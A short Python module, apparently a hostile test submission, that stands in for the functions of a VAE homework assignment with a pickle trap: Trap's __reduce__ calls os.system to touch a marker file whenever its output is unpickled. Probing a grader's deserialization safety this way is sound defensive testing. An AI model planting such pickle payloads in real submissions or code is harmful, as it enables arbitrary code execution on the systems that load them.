"""Returns objects that run a command when they are unpickled."""

import os


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here",)


def answer(*args, **kwargs):
    return Trap()

for name in """sample_latent_variables_from_posterior bernoulli_log_prob compute_KL vae_lower_bound
initialize_adam adam_update generate_images reconstruct_images interpolate_images""".split():
    globals()[name] = answer
